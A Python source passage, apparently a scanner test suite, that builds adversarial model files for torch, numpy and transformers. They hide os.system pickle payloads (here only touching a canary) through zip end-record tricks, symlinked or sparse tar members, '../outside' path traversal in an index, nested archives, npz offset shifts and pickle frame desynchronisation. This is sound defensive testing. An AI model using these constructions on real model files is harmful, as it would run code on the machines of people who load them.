ADVERSARIAL_BUILDERS["npz_zipfile_shift"] = ("numpy", hunt_npz_zipfile_shift)
ADVERSARIAL_BUILDERS["npz_entry_count"] = ("numpy", hunt_npz_entry_count)


def hunt_zip_trailing_end_signature(path: Path, canary: Path) -> Path:
    """A malicious torch zip followed by a bare end-record signature: miniz (torch.load) skips
    a signature with fewer than 22 bytes after it and opens the real end record before it."""
    mal_zip_data_pkl(path, canary)
    return _write(path, Path(path).read_bytes() + b"PK\x05\x06")


ADVERSARIAL_BUILDERS["zip_trailing_end_signature"] = ("torch", hunt_zip_trailing_end_signature)


def hunt_legacy_tar_links(path: Path, canary: Path, target: Path | None = None) -> Path:
    """torch's legacy tar format whose `storages`, `tensors` and `pickle` members are symbolic
    links to a payload pickle outside the archive (`target`, beside the canary by default):
    torch.load extracts them and unpickles what they point at."""
    import tarfile

    target = target or Path(canary).parent / "payload.pkl"
    target.write_bytes(call("os", "system", touch_cmd(canary)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = str(target)
            tar.addfile(info)
    return _write(path, out.getvalue())


def hunt_index_outside(folder: Path, canary: Path) -> Path:
    """A model folder with one plain safetensors shard and an index whose weight_map puts the
    second shard at `../outside/pytorch_model-00002-of-00002.bin` (a payload): transformers
    joins the folder and the name as given and loads it. Returns the folder."""
    import json

    folder.mkdir(parents=True, exist_ok=True)
    save_safetensors(folder / "model-00001-of-00002.safetensors")
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    _write(outside / "pytorch_model-00002-of-00002.bin", call("os", "system", touch_cmd(canary)))
    index = {"metadata": {"total_size": 0},
             "weight_map": {"a": "model-00001-of-00002.safetensors",
                            "b": "../outside/pytorch_model-00002-of-00002.bin"}}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index))
    return folder


def hunt_nested_archive(kind: str) -> Callable[[Path, Path], Path]:
    """A model folder shipped as one archive (`zip-deflated`, `zip-stored`, `tar.gz`,
    `zip-in-zip`): the malicious torch zip of `mal_zip_data_pkl` inside it, as
    `model/pytorch_model.bin`. A user unpacks it and loads that file."""
    import tarfile

    def build(path: Path, canary: Path) -> Path:
        inner = mal_zip_data_pkl(Path(path).with_suffix(".inner"), canary).read_bytes()
        Path(path).with_suffix(".inner").unlink()
        out = io.BytesIO()
        if kind == "tar.gz":
            with tarfile.open(fileobj=out, mode="w:gz") as tar:
                info = tarfile.TarInfo("model/pytorch_model.bin")
                info.size = len(inner)
                tar.addfile(info, io.BytesIO(inner))
        else:
            method = zipfile.ZIP_STORED if kind == "zip-stored" else zipfile.ZIP_DEFLATED
            if kind == "zip-in-zip":
                wrap = io.BytesIO()
                with zipfile.ZipFile(wrap, "w", zipfile.ZIP_DEFLATED) as z:
                    z.writestr("model/pytorch_model.bin", inner)
                inner, name = wrap.getvalue(), "model.zip"
            else:
                name = "model/pytorch_model.bin"
            with zipfile.ZipFile(out, "w", method) as z:
                z.writestr(name, inner)
        return _write(path, out.getvalue())

    build.__doc__ = f"a malicious torch zip inside a {kind} archive"
    return build


def unpack_nested(path: Path, into: Path) -> Path:
    """What the user does with a `hunt_nested_archive` file: unpack it (nested zips too) and
    return the checkpoint inside."""
    import shutil

    shutil.unpack_archive(str(path), str(into), "gztar" if str(path).endswith(".tar.gz")
                          else "zip")
    inner_zip = into / "model.zip"
    if inner_zip.exists():
        shutil.unpack_archive(str(inner_zip), str(into), "zip")
    return into / "model" / "pytorch_model.bin"


def hunt_legacy_tar_sparse(path: Path, canary: Path) -> Path:
    """torch's legacy tar whose `storages` member is a GNU sparse file: extracted, a hole of
    zeros lies inside a BINUNICODE string and the protocol 0 payload follows it. The stored
    bytes hold no hole, so a reader of the raw member sees the string swallow the payload."""
    import tarfile

    hole_end = 4096 * 4
    head = b"X" + struct.pack("<I", hole_end - 5)  # the string runs to the end of the hole
    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
    stored = head.ljust(4096, b"\x00") + payload
    info = tarfile.TarInfo("storages")
    info.type = tarfile.GNUTYPE_SPARSE
    info.size = len(stored)
    block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))

    def octal(value: int) -> bytes:
        return b"%011o\x00" % value

    block[386:410] = octal(0) + octal(4096)
    block[410:434] = octal(hole_end) + octal(len(payload))
    block[483:495] = octal(hole_end + len(payload))
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\x00 " % sum(block)
    out = io.BytesIO()
    out.write(bytes(block) + stored + b"\x00" * (-len(stored) % 512))
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in (("tensors", b"\x80\x02K\x00."), ("pickle", b"\x80\x02}.")):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return _write(path, out.getvalue())


ADVERSARIAL_BUILDERS["legacy_tar_sparse_storages"] = ("torch", hunt_legacy_tar_sparse)


def hunt_npz_zipfile_negative_shift(path: Path, canary: Path) -> Path:
    """An npz whose end record claims a directory larger than the one at its offset: miniz
    reads the entry there (a plain array); zipfile reads the claimed size back from the end
    record, where an entry for an object-array payload comes first, and shifts its offsets
    back by the difference."""
    evil = _npy("'|O'", call("os", "system", touch_cmd(canary)))
    benign = _hunt_plain_npy()
    first, second = _hunt_local("a.npy", benign), _hunt_local("b.npy", evil)
    body = first + b"\x00" * 200 + second
    seen_by_miniz = _hunt_central("a.npy", benign, 0)
    size = len(_hunt_central("b.npy", evil, 0))
    seen_by_zipfile = _hunt_central("b.npy", evil, len(first) + 200 + size)
    cd = seen_by_zipfile + seen_by_miniz
    return _write(path, body + cd + _hunt_eocd(1, len(cd), len(body) + size))


ADVERSARIAL_BUILDERS["npz_zipfile_negative_shift"] = ("numpy", hunt_npz_zipfile_negative_shift)


def _hunt_split_frame_pickle(canary: Path) -> bytes:
    """A protocol 4 pickle whose FRAME ends inside BINUNICODE's 4-byte length. Read from bytes
    or a buffered file it is one long string; the C unpickler reading a file object without
    peek() (io.BytesIO: torch.load reads every zip's data.pkl through one) drops the length's
    two framed bytes, reads the length afresh after the frame (1), and then runs os.system."""
    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
    frame = b"X\x05\x00"
    after = struct.pack("<I", 1) + b"A" + payload
    linear = 5 | 1 << 16  # the length bytes and reading sees: 0x05 0x00 0x01 0x00
    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after
            + b"B" * (linear - len(after) + 2) + STOP)


def hunt_split_frame_pickle(path: Path, canary: Path) -> Path:
    """`_hunt_split_frame_pickle` as a plain pickle file (payload runs under pickle.load of an
    io.BytesIO)."""
    return _write(path, _hunt_split_frame_pickle(canary))


def hunt_split_frame_zip(path: Path, canary: Path) -> Path:
    """A torch zip whose data.pkl is `_hunt_split_frame_pickle`: torch.load reads data.pkl
    through io.BytesIO, so the payload runs under a plain torch.load(path)."""
    src = _torch_zip_bytes(Path(path).parent)
    return _write(path, _rewrite_zip(src, {"/data.pkl": _hunt_split_frame_pickle(canary)}))


def hunt_frame_past_stop_legacy(path: Path, canary: Path) -> Path:
    """A legacy torch stream whose magic-number pickle has a FRAME that runs past its STOP: a
    reader without peek() (torch.load of an io.BytesIO) starts the next pickle at the frame's
    end, inside what a linear reading takes as a string, and runs the payload there."""
    magic = b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
    body = magic + STOP + PROTO2 + b"X" + struct.pack("<I", len(payload))
    data = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + payload + STOP
    data += b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02}." + b"\x80\x02]."
    return _write(path, data)


@contextlib.contextmanager
def module_on_path(folder: Path, name: str, source: str) -> Iterator[Path]:
    """`source` as module `name` in `folder`, importable while the block runs, then forgotten
    (a fresh name per test module: the scanner's source reader caches what it read)."""
    (folder / f"{name}.py").write_text(source)
    sys.path.insert(0, str(folder))
    try:
        yield folder
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop(name, None)
